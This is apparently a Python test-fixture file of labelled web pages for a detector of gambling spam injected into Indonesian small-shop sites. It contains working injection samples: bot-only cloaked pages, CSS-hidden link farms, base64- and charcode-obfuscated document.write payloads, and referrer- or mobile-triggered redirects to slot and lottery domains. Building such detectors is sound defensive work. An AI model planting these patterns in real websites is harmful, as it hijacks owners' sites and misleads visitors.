"""A seventh round for gambling_injection, by a verifier: 564 whole shops in their views, labelled before they were judged;
the first half before the rules were read. Told as in gambling_later; "look": what only the owner can know.
"""

from __future__ import annotations

import base64
from collections.abc import Callable

CASES: dict[str, tuple[str, tuple[str | int | None, ...]]] = {}
Shown = str | int


def case(name: str, label: str, home: Shown, *, bot: Shown | None = None, ref: Shown | None = None, lang: Shown | None = None) -> None:
    """*lang*: what a visitor who asks for Indonesian sees, where others see *home*."""
    assert name not in CASES, name
    moved = isinstance(lang, str) and lang.startswith("->")
    CASES[name] = (label, (lang, home, home, home) if moved else (lang or home, bot, ref, None))


NAV = '<header><a href="/">Beranda</a><nav><ul><li><a href="/produk">Produk</a></li><li><a href="/tentang-kami">Tentang Kami</a></li><li><a href="/kontak">Kontak</a></li></ul></nav></header>'
FOOT = '<footer><p>&copy; 2025 {n}. Jl. Malioboro No. 12, Yogyakarta. WhatsApp <a href="https://wa.me/6281234567890">0812-3456-7890</a></p></footer>'
def page(title: str, desc: str, body: str, head: str = '', name: str | None = None, foot: str = '', lang: str = 'id', first: str = '') -> str:
    n = name or title.split(' - ')[0]
    return (f'<!DOCTYPE html><html lang="{lang}"><head><meta charset="utf-8"><title>{title}</title>'
            f'<meta name="description" content="{desc}"><meta name="viewport" content="width=device-width, initial-scale=1">{head}</head>'
            f'<body>{first}{NAV}<main>{body}</main>{FOOT.format(n=n)}{foot}</body></html>')
BATIK = '<h1>Batik Sekar Arum</h1><p>Batik tulis dan cap dari pengrajin Imogiri. Kami kirim ke seluruh Indonesia.</p><div class="produk"><h2>Kemeja Batik Parang</h2><p>Rp185.000</p><h2>Kain Kawung 2 meter</h2><p>Rp240.000</p><h2>Selendang Sogan</h2><p>Rp95.000</p></div><p>Pembayaran melalui transfer BCA, BRI, QRIS.</p>'
KOPI = '<h1>Kopi Gunung Raung</h1><p>Biji kopi arabika dan robusta dipanggang tiap Selasa.</p><ul><li>Arabika Ijen 200g Rp75.000</li><li>Robusta Dampit 500g Rp68.000</li></ul><p>Pesan sebelum jam 12 dikirim hari yang sama.</p>'
KUE = '<h1>Dapur Bu Ratna</h1><p>Kue kering lebaran, nastar, kastengel, putri salju. Pemesanan minimal 3 toples.</p><p>Nastar 500 gr Rp85.000. Kastengel Rp95.000.</p>'


def batik(**k: str) -> str:
    return page('Batik Sekar Arum - Batik Tulis Yogyakarta', 'Toko batik tulis dan cap asli Imogiri', k.pop('body', BATIK), **k)


def kopi(**k: str) -> str:
    return page('Kopi Gunung Raung - Kopi Banyuwangi', 'Kopi arabika dan robusta segar dari Banyuwangi', k.pop('body', KOPI), **k)


def kue(**k: str) -> str:
    return page('Dapur Bu Ratna - Kue Kering', 'Kue kering rumahan Sidoarjo', k.pop('body', KUE), **k)

# cloaked titles and texts for the robot


def landing(title: str, desc: str, body: str) -> str:
    return page(title, desc, body, name='Official')


def cl(name: str, title: str, desc: str, body: str, label: str = 'infected', base: Callable[[], str] | None = None, view: str = 'bot') -> None:
    b = (base or batik)()
    seen = landing(title, desc, body)
    case(name, label, b, bot=seen if view == 'bot' else None, ref=seen if view == 'ref' else None, lang=seen if view == 'lang' else None)


cl('cloak-slot-gacor', 'SLOT GACOR HARI INI &#128640; Situs Slot Online Gampang Menang Maxwin', 'Slot gacor hari ini menyediakan link slot online terpercaya', '<h1>Slot Gacor Hari Ini</h1><p>Daftar sekarang dan menangkan jackpot jutaan rupiah.</p>')
cl('cloak-toto-macau', 'Situs Toto Macau 4D Resmi Pasaran Togel Terlengkap', 'Toto macau 4D hadiah 2D 3D 4D terbesar', '<h1>Toto Macau</h1><p>Keluaran macau hari ini, pasaran hongkong, sydney, singapore.</p>', base=kopi)
cl('cloak-bandar-togel', 'Bandar Togel Terpercaya dengan Hadiah 4D 10 Juta', 'Bandar togel online terpercaya sejak 2012', '<h1>Bandar Togel</h1><p>Bet 100 perak, diskon 66%.</p>', base=kue)
cl('cloak-rtp-live', 'RTP Live Slot Pragmatic Play Tertinggi Hari Ini', 'Bocoran RTP live slot tertinggi 98%', '<h1>RTP Live</h1><p>Pola gacor Gates of Olympus jam 19.00</p>')
cl('cloak-deposit-pulsa', 'Slot Deposit Pulsa Tanpa Potongan Telkomsel XL', 'Situs slot deposit pulsa 10rb tanpa potongan', '<h1>Slot Deposit Pulsa</h1>', base=kopi)
cl('cloak-scatter-hitam', 'Scatter Hitam Mahjong Ways 2: Trik Dapat Black Scatter PG Soft', 'Mahjong ways 2 scatter hitam terbaru', '<h1>Scatter hitam</h1><p>Main mahjong ways 2 modal receh.</p>', base=kue)
cl('cloak-link-alternatif', 'Link Alternatif SBOBET Login Mobile Terbaru', 'Daftar sbobet88 agen resmi', '<h1>SBOBET</h1><p>Login wap sbobet tanpa nawala</p>')
cl('cloak-agen-bola', 'Agen Bola Terpercaya - Judi Bola Online Mix Parlay', 'Agen bola dan taruhan sportsbook', '<h1>Mix Parlay Hari Ini</h1>', base=kopi)
cl('cloak-agen-casino', 'Agen Live Casino Online Baccarat Sicbo Roulette Dragon Tiger', 'Live casino dengan dealer cantik', '<h1>Live casino</h1>', base=kue)
cl('cloak-demo-slot', 'Demo Slot Pragmatic Play x1000 Gratis Anti Lag Rupiah', 'Main slot demo gratis mirip asli', '<h1>Slot demo</h1>')
cl('cloak-slot-thailand', 'Slot Server Thailand Super Gacor No 1 | Akun Pro Thailand', 'Akun pro thailand gampang menang', '<h1>Server Thailand</h1>', base=kopi)
cl('cloak-slot-kamboja', 'Slot Kamboja: Daftar Akun Pro Kamboja Winrate Tertinggi', 'Slot server kamboja resmi', '<h1>Slot Kamboja</h1>', base=kue)
cl('cloak-admin-jarwo', 'Bocoran Admin Jarwo Malam Ini Pola Slot Terakurat', 'Bocoran slot admin jarwo', '<h1>Admin Jarwo</h1>')
cl('cloak-depo-10k', 'Depo 10k Bonus New Member 100 di Awal TO Kecil', 'Bonus new member 100% to 3x bebas ip', '<h1>Bonus New Member 100 to 5x</h1><p>Slot bonus new member 100 di awal bisa beli spin</p>', base=kopi)
cl('cloak-zeus138', 'ZEUS138: Link Login Resmi & Daftar Akun Gampang Maxwin', 'Zeus138 login link alternatif', '<h1>ZEUS138</h1><p>Selamat datang di zeus138. Daftar, login, deposit, menang.</p>')
cl('cloak-kaisar89', 'KAISAR89 # Daftar Akun Hoki Paling Dipercaya Petaruh Tanah Air', 'Kaisar89 tempat bermain para petaruh', '<h1>KAISAR89</h1>', base=kopi)
cl('cloak-indo6d', 'INDO6D | Login Indo 6D Togel & Link Alternatif Terbaru', 'Indo6d link login', '<h1>Indo6d</h1>', base=kue)
cl('cloak-brand-only', 'RAJAMAS77 - Login & Daftar RAJAMAS77 Link Alternatif Resmi', 'RAJAMAS77 merupakan platform permainan daring dengan withdraw cepat', '<h1>RAJAMAS77</h1><p>Deposit QRIS dan withdraw cepat untuk semua member RAJAMAS77.</p>', label='suspicious')
cl('cloak-leet', 'SL0T G4C0R H4RI INI | S1TUS SL0T ONL1NE', 'Sl0t g4cor', '<h1>5L0T GAC0R</h1>')
cl('cloak-spaced', 'S L O T  G A C O R  H A R I  I N I', 'Daftar s.l.o.t g.a.c.o.r', '<h1>S-L-O-T G-A-C-O-R</h1>', base=kopi)
cl('cloak-zwsp', 'S\u200bl\u200bo\u200bt G\u200ba\u200bc\u200bo\u200br Terpercaya', 'to\u200cgel on\u200dline', '<h1>Si\u00adtus Slo\u00adt Gac\u00ador</h1>', base=kue)
cl('cloak-cyrillic', '\u0405l\u043et G\u0430\u0441\u043er H\u0430ri Ini', '\u0421\u0438tus t\u043eg\u0435l', '<h1>Sl\u043et G\u0430c\u043er Terp\u0435rc\u0430ya</h1>')
cl('cloak-math-bold', '𝗦𝗟𝗢𝗧 𝗚𝗔𝗖𝗢𝗥 𝗠𝗔𝗫𝗪𝗜𝗡 𝟮𝟬𝟮𝟱', '𝐬𝐢𝐭𝐮𝐬 𝐬𝐥𝐨𝐭 𝐠𝐚𝐜𝐨𝐫', '<h1>ＳＬＯＴ ＧＡＣＯＲ</h1>', base=kopi)
cl('cloak-entities', '&#83;&#108;&#111;&#116; &#x47;acor &#84;erpercaya', 'sl&#111;t g&#97;cor', '<h1>&#x54;ogel online</h1>', base=kue)
cl('cloak-qq', 'Situs Judi QQ Online DominoQQ BandarQ Poker IDN Play', 'DominoQQ dan bandarq pkv games', '<h1>PKV Games</h1>')
cl('cloak-pkv', 'PKV Games: Daftar BandarQQ & Pokerv Server Terbaik', 'pkv games deposit 10rb', '<h1>PKV</h1>', base=kopi)
cl('cloak-sabung', 'Sabung Ayam Online SV388 WS168 Live Streaming', 'Agen sabung ayam sv388', '<h1>SV388</h1><p>Taruhan sabung ayam dan adu ayam digmaan live.</p>', base=kue)
cl('cloak-keluaran', 'Data HK 2025 Keluaran HK Hari Ini Pengeluaran Hongkong Pools', 'Live draw hk tercepat', '<h1>Result HK</h1><p>Paito warna hongkong dan prediksi hk malam ini.</p>')
cl('cloak-prediksi', 'Prediksi Togel SGP Jitu 2D Malam Ini - Angka Main BBFS', 'Bocoran sgp angka jitu', '<h1>Prediksi Singapura</h1>', base=kopi)
cl('cloak-buku-mimpi', 'Buku Mimpi 2D 3D 4D Bergambar Erek Erek Togel Lengkap', 'Erek erek 2d', '<h1>Tafsir mimpi togel</h1>', base=kue)
cl('cloak-spaceman', 'Spaceman Slot: Situs Gacor Spaceman Pragmatic Depo 5rb', 'Slot spaceman gacor', '<h1>Spaceman</h1>')
cl('cloak-starlight', 'Starlight Princess 1000 Pola Gacor & Sweet Bonanza Xmas', 'Situs resmi starlight princess', '<h1>Starlight princess</h1>', base=kopi)
cl('cloak-olympus', 'Gates of Olympus: Situs Olympus Slot Kakek Zeus x500 Mudah Menang', 'Kakek zeus slot', '<h1>Kakek Zeus</h1>', base=kue)
cl('cloak-slot777', 'Slot777 | Situs Slot 777 Gacor Login Online', 'slot777', '<h1>slot777</h1>')
cl('cloak-slot-qris', 'Slot QRIS 5000 Tanpa Potongan Via Dana OVO Gopay', 'Slot dana 5k', '<h1>Slot Dana</h1>', base=kopi)
cl('cloak-bet200', 'Slot Bet 200 Perak Situs Bet Kecil 100 Rupiah', 'slot bet 200', '<h1>Slot bet kecil</h1>', base=kue)
cl('cloak-ref', 'Situs Judi Slot Online Resmi Terpercaya', 'judi slot online', '<h1>Judi slot</h1>', view='ref')
cl('cloak-lang', 'Daftar Situs Togel Online Terpercaya', 'togel online', '<h1>Togel</h1>', view='lang', base=kopi)
cl('cloak-english', 'Best Online Casino Indonesia - Free Spins & No Deposit Bonus', 'Play real money slots online casino', '<h1>Online casino real money</h1><p>Claim your 100 free spins welcome bonus, play blackjack and roulette.</p>', base=kue)
cl('cloak-thai', 'สล็อตเว็บตรง แตกง่าย ฝากถอนไม่มีขั้นต่ำ', 'สล็อตออนไลน์ บาคาร่า คาสิโน', '<h1>สล็อตเว็บตรง</h1><p>สมัครสล็อต แทงบอลออนไลน์</p>')
cl('cloak-chinese', '澳门赌场官网 - 百家乐 老虎机 在线娱乐城', '真人百家乐', '<h1>百家乐</h1><p>老虎机 体育投注</p>', base=kopi)
cl('cloak-viet', 'Nhà cái uy tín - Cá cược bóng đá, nổ hũ, tài xỉu online', 'nhà cái', '<h1>Nhà cái</h1><p>Sòng bạc trực tuyến, lô đề, xổ số</p>', base=kue)

# the same shop page, only the title/description swapped for the robot
case('title-swap-bot', 'infected', batik(), bot=batik().replace('Batik Sekar Arum - Batik Tulis Yogyakarta', 'Batik Sekar Arum | Agen Slot Gacor Maxwin Terpercaya'))
case('desc-swap-bot', 'infected', kopi(), bot=kopi().replace('content="Kopi arabika dan robusta segar dari Banyuwangi"', 'content="Kopi raung menyediakan link situs slot gacor anti rungkad dengan RTP tertinggi hari ini"'))
case('og-swap', 'infected', kue(head='<meta property="og:title" content="Dapur Bu Ratna: Situs Togel Online Resmi Pasaran Macau"><meta property="og:description" content="bandar togel hadiah terbesar">'))
case('keywords-meta', 'infected', batik(head='<meta name="keywords" content="slot gacor, slot online, judi online, situs slot terpercaya, slot88, togel">'))

# hidden link farms
FARM = '<a href="https://slotgacormax.xyz/">slot gacor</a> <a href="https://togel-macau.pages.dev/">toto macau</a> <a href="https://rtp-live.sbs/">rtp live</a> <a href="https://sbobet-login.top/">sbobet</a>'
HIDE = {
 'left9999': '<div style="position:absolute;left:-9999px">%s</div>',
 'left-vw': '<div style="position:fixed; left: -200vw; top:0">%s</div>',
 'top-neg': '<div style="position:absolute;top:-5000px;">%s</div>',
 'textindent': '<p style="text-indent:-9999em;overflow:hidden">%s</p>',
 'clip-path': '<div style="position:absolute;clip-path: inset(50%%)">%s</div>',
 'clip-rect': '<div style="position:absolute!important;clip:rect(1px,1px,1px,1px)">%s</div>',
 'height0': '<div style="height:0;overflow:hidden">%s</div>',
 'maxheight0': '<div style="max-height:0px;overflow:hidden">%s</div>',
 'font0': '<div style="font-size:0">%s</div>',
 'font1px': '<span style="font-size:1px;line-height:1px">%s</span>',
 'opacity': '<div style="opacity:.01">%s</div>',
 'opacity0': '<div style="opacity:0;pointer-events:none">%s</div>',
 'whiteonwhite': '<div style="background:#fff;color:#ffffff">%s</div>',
 'transparent': '<div style="color:transparent">%s</div>',
 'visibility': '<div style="visibility:hidden">%s</div>',
 'displaynone': '<div style="display:none">%s</div>',
 'zindex': '<div style="position:absolute;z-index:-9999">%s</div>',
 'marquee': '<marquee width="1" height="1" scrollamount="9000" style="width:1px;height:1px;overflow:hidden">%s</marquee>',
 'noscript': '<noscript>%s</noscript>',
 'template': '<template>%s</template>',
 'scale0': '<div style="transform:scale(0)">%s</div>',
 'hidden-attr': '<div hidden>%s</div>',
 'aria': '<ul aria-hidden="true" class="screen-reader-text">%s</ul>',
 'css-class': '<style>.xq7{position:absolute;left:-12345px}</style><div class="xq7">%s</div>',
 'margin-neg': '<div style="margin-left:-9000px">%s</div>',
 'js-hide': '<div id="fx9">%s</div><script>document.getElementById("fx9").style.display="none"</script>',
 'details': '<details><summary></summary>%s</details>',
 'visible': '<p>Partner kami: %s</p>',
}
for i, (k, t) in enumerate(HIDE.items()):
    case('farm-' + k, 'infected', (batik, kopi, kue)[i % 3](foot=t % FARM))
FARM2 = '<a href="https://blog-desa.example.id/">hoki99</a> <a href="https://kampusx.example/">mpo555</a> <a href="https://abcd.example/">bola88 login</a> <a href="https://efgh.example/">dewa4d</a>'
case('farm-brands-offscreen', 'infected', kopi(foot='<div style="position:absolute;left:-9999px">' + FARM2 + '</div>'))
case('farm-brands-visible', 'suspicious', kue(foot='<p>' + FARM2 + '</p>'))
case('farm-one-hidden-word', 'suspicious', batik(foot='<div style="position:absolute;left:-9999px"><a href="https://sman1x.sch.id/">slot gacor</a></div>'))
case('farm-edu-hosts-bot-only', 'infected', batik(), bot=batik(foot='<div><a href="https://fkip.kampus.ac.id/slot-gacor/">slot gacor</a><a href="https://dinas.kab.go.id/slot88/">slot88</a><a href="https://ejournal.ac.id/togel/">togel online</a></div>'))
case('linkhosts-bland-anchor', 'infected', kopi(foot='<div style="font-size:0"><a href="https://slot-gacor88.com/">.</a><a href="https://situstogel4d.net/">.</a><a href="https://bandarjudi.org/">.</a></div>'))
case('linkhosts-bland-visible', 'suspicious', kue(foot='<p><a href="https://slotgacor-online.com/">&nbsp;</a></p>'))
case('comment-block', 'suspicious', batik(foot='<!-- wp-links slot gacor https://slotgacor.xyz togel online -->'))

# JS
SPAM = '<div>' + FARM + '<h2>Situs slot gacor terpercaya</h2></div>'
b64 = base64.b64encode(SPAM.encode()).decode()
cc = ','.join(str(ord(c)) for c in SPAM)
hexs = ''.join(f'\\x{ord(c):02x}' for c in SPAM)
pct = ''.join(f'%{ord(c):02x}' for c in SPAM)
uni = ''.join(f'\\u{ord(c):04x}' for c in SPAM)
case('js-atob', 'infected', batik(foot=f'<script>document.write(atob("{b64}"))</script>'))
case('js-atob-var', 'infected', kopi(foot=f'<script>var _0x="{b64}";var d=window["atob"](_0x);document.body.insertAdjacentHTML("beforeend",d)</script>'))
case('js-charcode', 'infected', kue(foot=f'<script>document.write(String.fromCharCode({cc}))</script>'))
case('js-hex', 'infected', batik(foot=f'<script>document.write("{hexs}")</script>'))
case('js-unescape', 'infected', kopi(foot=f'<script>document.write(unescape("{pct}"))</script>'))
case('js-unicode', 'infected', kue(foot=f'<script>document.write("{uni}")</script>'))
case('js-write-plain', 'infected', batik(foot="<script>document.write('<div style=\"position:absolute;left:-9999px\"><a href=\"https://slotgacormax.xyz\">slot gacor maxwin</a><a href=\"https://t.xyz\">bandar togel</a></div>')</script>"))
case('js-write-concat', 'infected', kopi(foot="<script>document.write('<a href=\"https://x.xyz\">sl'+'ot ga'+'cor</a> <a href=\"https://y.xyz\">bandar to'+'gel</a>')</script>"))
case('js-redirect-referrer', 'infected', kue(foot="<script>if(/google\\.|bing\\./.test(document.referrer)){window.location.href='https://slotgacor77.vip/?ref=1'}</script>"))
case('js-redirect-mobile', 'infected', batik(foot="<script>if(/Android|iPhone/i.test(navigator.userAgent)){location.replace('https://togelmacau4d.site/daftar')}</script>"))
case('js-redirect-atob', 'infected', kopi(foot='<script>if(document.referrer.indexOf("google")>-1){{location.href=atob("{}")}}</script>'.format(base64.b64encode(b'https://slotgacor-maxwin.com/daftar').decode())))
case('js-data-uri', 'suspicious', kue(foot='<script src="data:text/javascript;base64,{}"></script>'.format(base64.b64encode(b"document.write('<a href=https://slotgacor.top>situs slot gacor</a><a href=https://togel.top>bandar togel online</a>')").decode())))
case('js-rot-reverse', 'suspicious', batik(foot="<script>document.write('rocag tols sutis >a/<ayacrepret legot radnab>a<'.split('').reverse().join(''))</script>"))

# structured data, canonical, amp
case('jsonld-product', 'infected', batik(head='<script type="application/ld+json">{"@context":"https://schema.org","@type":"Product","name":"Slot Gacor","description":"Situs slot online terpercaya","aggregateRating":{"@type":"AggregateRating","ratingValue":"4.9","reviewCount":"889977"},"brand":{"@type":"Brand","name":"SLOT88"}}</script>'))
case('jsonld-faq', 'infected', kopi(head='<script type="application/ld+json">{"@context":"https://schema.org","@type":"FAQPage","mainEntity":[{"@type":"Question","name":"Apa itu situs togel online terpercaya?","acceptedAnswer":{"@type":"Answer","text":"Bandar togel resmi dengan pasaran macau, hongkong dan sydney."}}]}</script>'))
case('jsonld-bot-only', 'infected', kue(), bot=kue(head='<script type="application/ld+json">{"@type":"Organization","name":"MAXWIN138 Slot","url":"https://amp-maxwin138.pages.dev","description":"link slot gacor hari ini"}</script>'))
case('amphtml-pages-dev', 'infected', batik(), bot=batik(head='<link rel="amphtml" href="https://amp-slot88gacor.pages.dev/">'))
case('amphtml-neutral-foreign', 'suspicious', kopi(), bot=kopi(head='<link rel="amphtml" href="https://amp-hokiku.pages.dev/">'))
case('canonical-foreign', 'suspicious', kue(), bot=kue(head='<link rel="canonical" href="https://hokiraja.link/">'))
case('canonical-slot-host', 'infected', batik(head='<link rel="canonical" href="https://situs-slot-gacor.online/">'))
case('hreflang-slot', 'infected', kopi(head='<link rel="alternate" hreflang="id-ID" href="https://slotgacor88.live/"><link rel="alternate" hreflang="x-default" href="https://slotgacor88.live/">'))
# redirects
case('redir-bot', 'suspicious', batik(), bot='->https://lp-hokiwin.site/')
case('redir-ref-slot', 'infected', kopi(), ref='->https://slotgacor88-daftar.com/?ref=x')
case('redir-lang-togel', 'infected', kue(), lang='->https://bandartogel4d.net/')
case('metarefresh', 'infected', batik(head='<meta http-equiv="refresh" content="0;url=https://slotgacorhariini.vip/">'))
case('metarefresh-bot', 'suspicious', kopi(), bot=kopi(head='<meta http-equiv="refresh" content="3; URL=https://mahkota-win.cfd/">'))
case('iframe-full', 'infected', kue(foot='<iframe src="https://slot-gacor-maxwin.site/" style="position:fixed;top:0;left:0;width:100%;height:100%;border:0;z-index:99999"></iframe>'))
case('iframe-bot', 'suspicious', batik(), bot=batik(foot='<iframe src="https://lp.hoki777.live/" width="100%" height="100%"></iframe>'))
# posts and sentences
case('wp-spam-post', 'infected', kopi(body=KOPI + '<section><h2>Artikel Terbaru</h2><article><h3><a href="/slot-gacor-hari-ini/">Rahasia Menang Slot Gacor Hari Ini dengan RTP Live Tertinggi</a></h3><p>Bermain slot online kini makin mudah berkat situs slot terpercaya yang menyediakan deposit pulsa tanpa potongan.</p></article><article><h3><a href="/togel-macau/">Panduan Pasang Togel Toto Macau 4D untuk Pemula</a></h3></article></section>'))
case('wp-spam-post-bot', 'infected', kue(), bot=kue(body=KUE + '<h2>Pos-pos Terbaru</h2><ul><li><a href="/p=91">Cara Menang Main Mahjong Ways 2 Dengan Modal 20 Ribu</a></li><li><a href="/p=92">Judi Bola Parlay: Strategi Mix Parlay 3 Tim</a></li><li><a href="/p=93">Daftar Situs Slot Depo 5k Gacor</a></li></ul>'))
case('subtle-sentence', 'infected', batik(body=BATIK + '<p>Kemeja batik ini nyaman dipakai saat santai, termasuk ketika Anda bermain di <a href="https://xx.example/">situs slot gacor terpercaya</a> bersama teman.</p>'))
case('subtle-togel', 'infected', kopi(body=KOPI + '<p>Nikmati kopi hangat sambil memasang angka di <a href="https://yy.example/">bandar togel online</a> pilihan dengan diskon terbesar.</p>'))
case('subtle-casino-link', 'infected', kue(body=KUE + '<p>Toples cantik kami dipesan juga oleh pemain <a href="https://zz.example/">judi online</a> yang menang jackpot slot setiap malam.</p>'))
case('deface-landing', 'infected', page('SULTAN88 - Situs Slot Gacor Gampang Menang', 'Sultan88 bandar slot', '<h1>SULTAN88</h1><a href="https://sultan88.vip/daftar">DAFTAR</a><a href="https://sultan88.vip/login">LOGIN</a><table><tr><td>Minimal Deposit</td><td>Rp 10.000</td></tr><tr><td>Provider</td><td>Pragmatic Play, PG Soft, Habanero, Joker Gaming</td></tr><tr><td>Jenis Permainan</td><td>Slot, Togel, Live Casino, Sportsbook</td></tr></table>'))
case('deface-brand-only', 'infected', page('MPO1551 | Login MPO 1551 Resmi', 'mpo1551', '<h1>MPO1551</h1><p>Provider: Pragmatic Play, PG Soft, Habanero, Spadegaming. Minimal deposit Rp5.000. Withdraw 2 menit. RTP 98,7%.</p><a rel="nofollow" href="https://t.ly/mpo">DAFTAR</a>'))
case('deface-gambling-game', 'infected', page('Situs Mahjong Ways Gacor', 'mahjong', '<h1>Mahjong Ways gacor</h1><p>Anti rungkad, auto WD, pasti bayar. Freechat.</p>'))
case('hacked-title-japanese-like', 'suspicious', batik(), bot=page('hoki online menang besar tiap hari petir merah x500 | link vip', 'petir merah', '<h1>Petir Merah x500</h1><p>Gratis spin, pecah selayar, sensasional. Main sekarang!</p>'))
case('form-redirect-onclick', 'infected', kopi(foot='<a href="#" onclick="location.href=\'https://slot88gacor.live\'"><img src="/b.jpg" alt="slot gacor maxwin bandar slot88"></a>'))
case('img-alt', 'infected', kue(foot='<img src="/wp-content/uploads/banner.gif" alt="situs slot gacor deposit pulsa tanpa potongan" width="1" height="1">'))
case('svg-text', 'suspicious', batik(foot='<svg width="0" height="0"><text>situs slot gacor terpercaya togel online</text></svg>'))
case('hidden-input-textarea', 'suspicious', kopi(foot='<textarea style="display:none">slot gacor, situs judi online, bandar togel, slot88</textarea>'))
case('split-tags', 'infected', kue(foot='<div style="opacity:0"><b>sl</b><i>ot</i> <b>ga</b><i>cor</i> <a href="https://q.example/">ban<span></span>dar tog<span></span>el</a></div>'))
case('comment-split', 'infected', batik(foot='<div style="font-size:0"><a href="https://q.example/">sl<!-- x -->ot gac<!-- y -->or terpercaya</a> <a href="https://r.example">tog<!---->el online</a></div>'))

# CLEAN


def clean(name: str, title: str, desc: str, body: str, **k: str) -> None:
    case(name, 'clean', page(title, desc, body, **k))
clean('burung-masteran', 'Kicau Mania Shop - Masteran Burung Gacor', 'Pakan dan masteran burung gacor', '<h1>Burung gacor setiap hari</h1><p>Murai batu gacor, kacer gacor, lovebird ngekek. Voer super gacor Rp25.000. Tips agar burung gacor hari ini sebelum lomba. Jangkrik dan kroto segar.</p>')
clean('burung-vitamin', 'Gacor BF - Vitamin Burung', 'vitamin murai gacor juara', '<h1>Vitamin Gacor Max</h1><p>Bikin burung gacor terpercaya sejak 2010, cepat bunyi, mental juara. Bonus beli 3 gratis 1.</p>')
clean('knalpot-gacor', 'Knalpot Racing Gacor - Bengkel Jaya Motor', 'Knalpot suara gacor bass', '<h1>Knalpot gacor</h1><p>Suara gacor, bass bulat. Slot knalpot depan cocok NMAX. Silencer slip-on Rp750.000.</p>')
clean('slot-knalpot', 'Bengkel Las Knalpot', 'knalpot', '<h1>Paket knalpot gacor hari ini diskon</h1><p>Sisa 3 slot gacor pemasangan hari ini! Booking slot servis via WhatsApp.</p>')
clean('baut-slot', 'Toko Baut Sinar Teknik - Baut Slot, Mur, Ring', 'Baut slot dan obeng minus', '<h1>Baut slot plus minus</h1><p>T-slot aluminium profile 2020, T-slot nut, mesin slotting, roda gigi. Baut kepala slot M4, M5.</p>')
clean('mesin-slot-kayu', 'Mesin Pembuat Slot Kunci', 'mesin bor slot pintu', '<h1>Mesin slot mortiser</h1><p>Mesin slot untuk lubang kunci pintu, daya 1280 watt. Harga mesin slot terbaru.</p>')
clean('ram-slot', 'Komputer Murah - RAM 2 slot, PCIe Slot', 'motherboard 4 slot DIMM', '<h1>Motherboard B550</h1><p>2 slot PCIe x16, 4 slot DIMM, slot M.2 NVMe. Casing 7 slot. Slot memori microSD gacor kencang. Slot online: cek stok di marketplace.</p>')
clean('toto-closet', 'TOTO Sanitary Ware - Toko Bangunan Maju', 'Closet TOTO duduk, jet washer TOTO', '<h1>Closet TOTO CW 421</h1><p>Agen resmi TOTO. Toto kran, wastafel Toto, jet shower TOTO. Harga TOTO terbaru hari ini. Distributor TOTO terpercaya sejak 1998.</p>')
clean('toto-situs', 'Situs Resmi TOTO Indonesia - Saniter', 'Situs resmi toto', '<h1>TOTO Official Store</h1><p>Login dealer TOTO. Daftar harga TOTO 2025. Toto kloset 4D? Tidak: kode TX4D untuk kran.</p>')
clean('toto-tools', 'Perkakas Toto Tools', 'kunci pas toto', '<h1>Toto tools</h1><p>Kunci inggris Toto 10 inch, tang Toto. Toko perkakas online terpercaya.</p>')
clean('parfum-casino', 'Parfum Refill Wangi - Casino Royale, Baccarat Rouge', 'Parfum Casino dan Baccarat Rouge 540', '<h1>Parfum Baccarat Rouge 540</h1><p>Inspired by Baccarat Rouge. Casino Homme 35 ml Rp60.000. Joker, Jackpot, Roulette edition.</p>')
clean('topup-diamond', 'Topup Murah - Diamond ML, UC PUBG, Voucher Game', 'Top up diamond mobile legends murah', '<h1>Top Up Game</h1><p>Diamond Mobile Legends, UC PUBG, Free Fire, Chip Domino? Tidak tersedia. Login, daftar, deposit saldo reseller via QRIS tanpa potongan. Bonus member baru 5%.</p>')
clean('topup-hago', 'Zeus Store - Topup Game 24 Jam', 'Zeus store top up', '<h1>Zeus Store</h1><p>Voucher Steam, Google Play, Garena Shell, Royal Dream Koin. Proses cepat, terpercaya.</p>')
clean('kartu-remi', 'Toko Mainan Edukasi - Kartu Remi, Poker, Domino', 'kartu remi, kartu poker plastik', '<h1>Kartu Remi Poker</h1><p>Kartu poker plastik anti air, chip poker set 300 pcs, domino kayu, mahjong set, dadu, roulette mini untuk pesta.</p>')
clean('mahjong-set', 'Mahjong Set Murah', 'mahjong batu asli', '<h1>Set Mahjong 144 ubin</h1><p>Mahjong set bahan melamin, meja mahjong otomatis. Cara bermain mahjong dijelaskan di buku.</p>')
clean('zeus-brand', 'Zeus Sepatu Gunung', 'sepatu zeus', '<h1>Zeus Outdoor</h1><p>Sepatu Zeus Olympus X1, tas gunung Zeus 60L, jaket Zeus Gates. Kakek nenek juga suka.</p>')
clean('zeus77', 'Zeus77 Apparel - Kaos Distro Bandung', 'Kaos distro zeus77', '<h1>Zeus77 Apparel</h1><p>Kaos katun combed 30s, hoodie, jaket. Login member untuk harga reseller.</p>')
clean('brand-88', 'Toko Besi 88 - Baja Ringan Surabaya', 'Toko besi 88', '<h1>Toko Besi 88</h1><p>Baja ringan, besi hollow. Toko 88 melayani sejak 1988. Cabang Jaya77, Maju99.</p>')
clean('brand-4d', 'Karpet 4D Mobil Premium', 'Karpet mobil 4D 5D 7D', '<h1>Karpet 4D dan 5D</h1><p>Karpet 4D Avanza, karpet 7D, stiker 3D, wallpaper 4D. Bioskop 4D.</p>')
clean('agen-pulsa', 'Agen Pulsa Murah - Server Pulsa All Operator', 'Agen pulsa dan PPOB terpercaya', '<h1>Daftar Agen Pulsa</h1><p>Deposit pulsa mulai 50rb, deposit via transfer bank, Dana, OVO tanpa potongan. Bonus member baru, komisi downline. Withdraw saldo tiap hari. Link alternatif webreport.</p>')
clean('deposit-pulsa', 'Convert Pulsa Tanpa Potongan', 'tukar pulsa', '<h1>Deposit pulsa Telkomsel tanpa potongan</h1><p>Tukar pulsa jadi saldo Dana rate 0.85, minimal deposit 10rb. Depo pulsa XL dan Axis terpercaya.</p>')
clean('bonus-new-member', 'Glow Skincare - Bonus New Member', 'skincare bonus new member', '<h1>Bonus New Member 100 Ribu</h1><p>Daftar member baru dapat voucher bonus new member 100 ribu. Login untuk klaim. Spin wheel promo setiap hari, putar dan menangkan hadiah!</p>')
clean('jackpot-undian', 'Swalayan Makmur - Undian Jackpot Akhir Tahun', 'undian jackpot mobil', '<h1>Jackpot Undian Motor</h1><p>Belanja Rp100.000 dapat kupon undian. Menangkan jackpot motor Beat dan hadiah jutaan rupiah. Pemenang diumumkan live.</p>')
clean('maxwin-nick', 'Maxwin Gordyn - Tirai Jendela', 'Gordyn maxwin', '<h1>Maxwin Blinds</h1><p>Maxwin Window Blind, roller blind Maxwin, harga per meter. MAXWIN aki motor.</p>')
